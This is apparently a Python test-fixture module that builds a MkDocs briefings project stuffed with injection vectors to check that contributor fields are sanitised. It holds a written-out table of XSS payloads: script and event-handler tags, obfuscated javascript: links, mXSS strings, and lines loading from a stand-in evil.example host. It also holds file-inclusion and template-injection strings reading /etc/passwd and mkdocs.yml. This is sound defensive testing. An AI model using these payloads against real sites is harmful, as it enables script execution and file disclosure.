"""The payload table and a fixture project that puts every vector into every contributor field.

The fixture is generated (never committed): :func:`write_payload_project` writes a
complete project (articles, annotations, docs, mkdocs.yml copied from the repository)
in which vector ``i`` is the title, subtitle, publisher and author of article ``v<i>``,
the name, role, affiliation and alias of speaker ``s<i>``, and the claim, note,
counterclaim claim, source title, contributor handle and (anchored) quote of
annotation ``a<i>``.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

REPO_ROOT = Path(__file__).resolve().parents[2]

# (name, text). Each text fits the smallest contributor field (the 100-character handle).
VECTORS: list[tuple[str, str]] = [
    ("script-tag", "<script>alert(1)</script>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("iframe", '<iframe src="https://evil.example/"></iframe>'),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("md-javascript", "[x](javascript:alert(1))"),
    ("md-mixed-case", "[x](JaVaScRiPt:alert(1))"),
    ("md-entity-hex", "[x](jav&#x61;script:alert(1))"),
    ("md-entity-dec", "[x](&#106;avascript:alert(1))"),
    ("md-entity-colon", "[x](javascript&colon;alert(1))"),
    ("md-tab-scheme", "[x](java&#x09;script:alert(1))"),
    ("md-angle-url", "[x](<javascript:alert(1)>)"),
    ("md-data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-vbscript", "[x](vbscript:msgbox(1))"),
    ("md-reference", "[x][r]\n\n[r]: javascript:alert(1)"),
    ("md-protocol-relative", "[x](//evil.example/)"),
    ("md-title-breakout", '[x](https://example.org/ "t\\" onmouseover=\\"alert(1)")'),
    ("html-a-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("html-a-entity", '<a href="jav&#x61;script:alert(1)">x</a>'),
    ("html-a-onclick", '<a href="https://example.org/" onclick="alert(1)">x</a>'),
    ("autolink-javascript", "<javascript:alert(1)>"),
    ("attr-list-inline", '*x*{: onclick="alert(1)"}'),
    ("attr-list-block", 'text\n{: onclick="alert(1)" }'),
    ("snippet-mkdocs", '--8<-- "mkdocs.yml"'),
    ("snippet-passwd", '--8<-- "/etc/passwd"'),
    ("md-in-html", '<div markdown="1">*x* [y](javascript:alert(1))</div>'),
    ("style-tag", "<style>body{background:url(https://evil.example/x.png)}</style>"),
    ("style-attr", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("md-image-onerror", '![x](https://evil.example/x.png){: onerror="alert(1)"}'),
    ("md-image-alt", '![x" onerror="alert(1)](https://evil.example/x.png)'),
    ("html-comment", "<!-- <script>alert(1)</script> -->"),
    ("base-href", '<base href="https://evil.example/">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("form-action", '<form action="https://evil.example/"><button formaction="javascript:alert(1)">x</button></form>'),
    ("object-embed", '<object data="https://evil.example/x"></object><embed src="https://evil.example/y">'),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("attr-breakout", '"><script>alert(1)</script>'),
    ("single-quote-breakout", "' onmouseover='alert(1)' x='"),
    ("mxss-math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    # alert(2): with alert(1) it would look like script-tag's name, which check refuses (issue 17, case 12)
    ("fullwidth", "\uff1cscript\uff1ealert(2)\uff1c/script\uff1e"),
    ("escaped-entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("jinja", "{{ config.extra }} {% include 'mkdocs.yml' %}"),
    ("code-block-gap", "    code\n\n\n\n    [x](javascript:alert(1)){: onclick=\"alert(1)\"}"),
    ("blank-lines", "a\n\n\n\n[x](javascript:alert(1))\n{: onclick=\"alert(1)\" }"),
]

LEGIT_CLAIM = "Plain *emphasis*, `inline code` and a [safe link](https://example.org/page)."
SECRET_MARKERS = ("site_name: Annotated Briefings", "root:x:0:0", "annotated-briefings\n")


def _q(value: str) -> str:
    return json.dumps(value, ensure_ascii=False)


def _article(i: int, text: str) -> str:
    flat = " ".join(text.split())
    return "\n".join([
        "---", f"title: {_q(text)}", f"subtitle: {_q(text)}", f"publisher: {_q(text)}",
        f"author: {_q(text)}", f'published: "2020-01-{1 + i % 28:02d}"', "---", "",
        f"Opening line of briefing {i}. Quoted: qm{i}z {flat} end{i}. Closing words.",
        "", f"Second paragraph of briefing {i}, with gap{i}z here and there.", ""])


def _annotation(i: int, text: str) -> str:
    source = f'{{title: {_q(text)}, url: "https://example.org/s{i}"}}'
    lines = [
        f"article: v{i:02d}", "annotations:",
        f"  - id: a{i:02d}", f"    speaker: s{i:02d}", "    attribution: direct",  # stated: no quotation marks
        f"    quote: {_q(f'qm{i}z {text} end{i}')}",
        f"    claim: {_q(text)}",
        "    counterclaims:",
        f"      - speaker: s{i:02d}", f"        claim: {_q(text)}",
        f"        quote: {_q(f'gap{i}z')}",
        f"        sources: [{source}]",
        "    topics: [payloads]",
        f"    note: {_q(text)}", f"    sources: [{source}]",
        f"    contributor: {_q(text)}",
    ]
    if i == 0:
        lines += ["  - id: legit", "    speaker: s00", "    attribution: direct", '    quote: "Closing words"',
                  f"    claim: {_q(LEGIT_CLAIM)}", f"    note: {_q(LEGIT_CLAIM)}",
                  '    sources: [{title: "Plain *title*", url: "https://example.org/legit"}]',
                  "    counterclaims: [{ref: a01}]"]
    return "\n".join(lines) + "\n"


def _speaker(i: int, text: str) -> str:
    return "\n".join([f"  - id: s{i:02d}", f"    name: {_q(text)}", f"    role: {_q(text)}",
                      f"    affiliation: {_q(text)}", f"    aliases: [{_q(text[:80])}]"])  # list items: 80


def copy_base(dest: Path) -> None:
    """The repository's mkdocs.yml, docs/ (hand-written pages: about.md is the baseline) and overrides/."""
    shutil.copy(REPO_ROOT / "mkdocs.yml", dest / "mkdocs.yml")
    for folder in ("docs", "overrides"):  # hand-written pages, assets and theme files the config names
        if (REPO_ROOT / folder).is_dir():
            shutil.copytree(REPO_ROOT / folder, dest / folder, dirs_exist_ok=True)


def write_payload_project(dest: Path, vectors: list[tuple[str, str]] = VECTORS) -> None:
    copy_base(dest)
    (dest / "articles").mkdir()
    (dest / "annotations").mkdir()
    speakers = ["speakers:"]
    for i, (_, text) in enumerate(vectors):
        (dest / "articles" / f"v{i:02d}.md").write_text(_article(i, text), encoding="utf-8")
        (dest / "annotations" / f"v{i:02d}.yml").write_text(_annotation(i, text), encoding="utf-8")
        speakers.append(_speaker(i, text))
    (dest / "annotations" / "speakers.yml").write_text("\n".join(speakers) + "\n", encoding="utf-8")


SMALL_ARTICLE = """---
title: "A small briefing"
publisher: "The Example Times"
author: "A. Reporter"
published: "2021-03-04"
---

The minister said the budget will be balanced by next year. Critics disagree.

The opposition said the plan is unrealistic.
"""
SMALL_SPEAKERS = """speakers:
  - id: the-minister
    name: The Minister
    role: Finance minister
  - id: the-opposition
    name: The Opposition
    role: Opposition party
"""
SMALL_ANNOTATIONS = """article: small
annotations:
  - id: budget-balanced
    speaker: the-minister
    quote: "the budget will be balanced by next year"
    claim: The budget will be *balanced* next year.
    counterclaims:
      - speaker: the-opposition
        claim: The plan is unrealistic.
        quote: "the plan is unrealistic"
    topics: [budget]
    sources: [{title: "Budget", url: "https://example.org/budget"}]
    attribution: reported
"""


def write_small_project(dest: Path) -> None:
    """A valid one-briefing project; tests break one file of it at a time."""
    copy_base(dest)
    (dest / "articles").mkdir()
    (dest / "annotations").mkdir()
    (dest / "articles" / "small.md").write_text(SMALL_ARTICLE, encoding="utf-8")
    (dest / "annotations" / "speakers.yml").write_text(SMALL_SPEAKERS, encoding="utf-8")
    (dest / "annotations" / "small.yml").write_text(SMALL_ANNOTATIONS, encoding="utf-8")
